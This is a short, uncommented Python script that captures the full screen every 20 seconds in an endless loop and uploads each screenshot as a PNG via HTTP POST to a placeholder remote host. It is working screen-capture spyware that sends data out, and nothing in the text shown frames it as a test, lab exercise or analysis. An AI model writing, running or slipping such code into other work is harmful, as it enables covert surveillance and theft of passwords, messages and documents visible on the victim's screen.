import time, mss, mss.tools, httpx
with mss.mss() as sct:
    while True:
        img = sct.grab(sct.monitors[0])
        httpx.post("https://c.example.invalid/s", content=mss.tools.to_png(img.rgb, img.size))
        time.sleep(20)
